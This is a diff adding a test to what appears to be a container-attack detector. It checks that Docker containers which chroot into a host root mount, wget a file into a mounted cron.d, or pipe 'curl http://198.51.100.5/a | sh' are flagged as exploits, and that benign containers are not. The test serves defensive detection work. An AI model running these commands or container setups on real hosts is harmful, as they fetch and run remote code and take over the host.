@@ -40,6 +40,20 @@ test('made and started; what has not happened is not told', () => {
   assert.match(drafts[0]?.excerpt ?? '', /^suspicious_mayer created: alpine:latest sh -c/)
 })
 
+test('a container that rules its host, or runs what nobody runs; a mount alone is no attack', () => {
+  const told = (path: string, args: readonly string[], source: string, rw = true) => {
+    const mounts = { '/mnt': { Source: source, Destination: '/mnt', RW: rw, Type: 'bind' } }
+    const [one] = draftsOf(dockerContainerState, '/x', JSON.stringify({ ...config, Path: path, Args: args, MountPoints: mounts }))
+    return `${one?.verb} ${one?.attack}`
+  }
+  assert.equal(told('chroot', ['/mnt', 'sh', '-c', 'id'], '/'), 'exploit docker-host-mount')
+  assert.equal(told('sh', ['-c', 'wget http://198.51.100.5/a -O /mnt/cron.d/a'], '/etc'), 'exploit docker-host-mount')
+  assert.equal(told('sh', ['-c', 'curl http://198.51.100.5/a | sh'], '/srv/data'), 'exploit docker-shell-payload')
+  assert.equal(told('/bin/node_exporter', ['--path.rootfs=/host'], '/', false), 'container undefined')
+  assert.equal(told('/backup', ['--all'], '/'), 'container undefined')
+  assert.equal(told('nginx', ['-g', 'daemon off;'], '/srv/www'), 'container undefined')
+})
+
 test('near misses: another file of JSON', () => {
   assert.deepEqual(
     draftsOf(
